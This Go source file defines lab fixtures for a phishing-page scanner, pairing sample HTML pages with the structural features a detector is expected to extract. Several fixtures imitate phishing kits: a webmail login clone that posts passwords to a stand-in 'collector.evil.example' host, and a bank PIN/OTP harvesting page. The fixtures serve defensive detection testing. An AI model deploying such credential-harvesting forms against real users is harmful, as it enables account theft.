package demoserver

import (
	"net/http"

	"github.com/raysh454/phishscan/internal/features"
)

// Page is one lab fixture: a page whose structural features are known in
// advance.
type Page struct {
	Path        string
	Description string
	// Label is 1 for pages imitating phishing kits, 0 otherwise.
	Label       int
	HTML        string
	ContentType string
	Status      int

	// Expected are the structural features the page must produce when
	// fetched successfully.
	Expected features.Structural
}

func (p Page) status() int {
	if p.Status == 0 {
		return http.StatusOK
	}
	return p.Status
}

// GetAllPages returns all lab pages.
func GetAllPages() []Page {
	return []Page{
		homePage(),
		loginClonePage(),
		bankVerifyPage(),
		invoicePage(),
		latin1Page(),
		brokenKitPage(),
		notFoundPage(),
	}
}

func homePage() Page {
	return Page{
		Path:        "/",
		Description: "Plain landing page with same-site navigation",
		Label:       0,
		HTML: `<!DOCTYPE html>
<html>
<head>
    <title>Lab Home</title>
    <base href="http://lab.local/">
    <script src="/static/app.js"></script>
</head>
<body>
    <nav>
        <a href="http://lab.local/about">About</a>
        <a href="/contact">Contact</a>
        <a href="#top">Top</a>
    </nav>
    <p>Nothing to see here.</p>
</body>
</html>`,
		Expected: features.Structural{0, 0, 0, 0, 0},
	}
}

func loginClonePage() Page {
	return Page{
		Path:        "/login",
		Description: "Credential harvesting clone of a webmail login",
		Label:       1,
		HTML: `<!DOCTYPE html>
<html>
<head>
    <title>Sign in to your account</title>
    <script src="https://cdn.evil.example/kit.js"></script>
</head>
<body>
    <form action="https://collector.evil.example/post" method="POST">
        <input type="email" name="user">
        <input type="password" name="pass">
        <button type="submit">Sign in</button>
    </form>
    <iframe src="https://tracker.evil.example/pixel" width="0" height="0"></iframe>
    <a href="https://webmail.example/help">Help</a>
    <a href="https://webmail.example/privacy">Privacy</a>
</body>
</html>`,
		Expected: features.Structural{1, 1, 1, 2, 1},
	}
}

func bankVerifyPage() Page {
	return Page{
		Path:        "/bank/verify",
		Description: "Two-step bank verification kit with hidden frames",
		Label:       1,
		HTML: `<!DOCTYPE html>
<html>
<head><title>Verify your identity</title></head>
<body>
    <form id="step1">
        <input type="text" name="account">
        <input type="password" name="pin">
    </form>
    <form id="step2">
        <input type="password" name="otp">
        <input type="Password" name="ignored-case">
    </form>
    <iframe src="/frame/a"></iframe>
    <iframe src="/frame/b"></iframe>
    <script>document.forms[0].submit = function () {};</script>
    <a href="http://bank.example/">Bank</a>
</body>
</html>`,
		Expected: features.Structural{2, 2, 2, 1, 0},
	}
}

func invoicePage() Page {
	return Page{
		Path:        "/invoice",
		Description: "Legitimate invoice page with a contact form",
		Label:       0,
		HTML: `<!DOCTYPE html>
<html>
<head>
    <title>Invoice #1042</title>
    <base href="https://shop.example/">
</head>
<body>
    <table><tr><td>Total</td><td>42.00</td></tr></table>
    <form action="/contact"><textarea name="msg"></textarea></form>
    <a href="https://shop.example/orders">Orders</a>
    <a href="https://payments.example/receipt">Receipt</a>
</body>
</html>`,
		Expected: features.Structural{1, 0, 0, 1, 0},
	}
}

// latin1Page is served as ISO-8859-1 so fetchers must decode it.
func latin1Page() Page {
	return Page{
		Path:        "/latin1",
		Description: "ISO-8859-1 encoded page",
		Label:       0,
		ContentType: "text/html; charset=iso-8859-1",
		HTML: "<html><head><title>Caf\xe9</title></head><body>" +
			"<p>R\xe9sum\xe9</p><form><input type=\"password\"></form></body></html>",
		Expected: features.Structural{1, 1, 0, 0, 0},
	}
}

func brokenKitPage() Page {
	return Page{
		Path:        "/kit",
		Description: "Truncated phishing kit with unclosed tags",
		Label:       1,
		HTML: `<html><body><form><input type=password><form>` +
			`<a href="http://drop.evil.example/">x<a href="http://drop2.evil.example/">y` +
			`<script src="http://cdn.evil.example/a.js"></script><div><span`,
		Expected: features.Structural{1, 1, 0, 2, 1},
	}
}

// notFoundPage answers 404 with a body full of signals; fetchers must treat
// it as a failure, not as page content.
func notFoundPage() Page {
	return Page{
		Path:        "/gone",
		Description: "404 page whose markup must not be scored",
		Label:       0,
		Status:      http.StatusNotFound,
		HTML:        `<form><input type="password"></form><iframe></iframe>`,
		Expected:    features.Structural{},
	}
}
